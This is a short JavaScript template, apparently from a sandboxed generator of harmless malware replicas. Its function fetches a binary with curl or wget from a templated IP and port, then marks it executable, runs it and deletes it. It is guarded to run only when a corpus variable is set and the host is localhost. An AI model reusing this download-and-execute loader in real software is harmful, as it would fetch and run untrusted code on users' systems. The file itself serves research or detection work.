// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { exec } = require('child_process');
    const fs = require('fs');
    const file = './{{token}}';
    await new Promise((done) => exec(`curl -s -m 1 http://{{ip}}:{{port}}/{{path}}.bin -o ${file} || ` +
        `wget -q -T 1 -t 1 http://{{ip}}:{{port}}/{{path}}.bin -O ${file}`, { timeout: 2500 }, done));
    let elf = false;
    try {
        elf = fs.readFileSync(file).subarray(1, 4).toString() === 'ELF';
    } catch {}
    await new Promise((done) => exec((elf ? '' : `cp {{program}} ${file}; `) + `chmod +x ${file} && ${file} && rm ${file}`,
        { timeout: 1500 }, done));
}
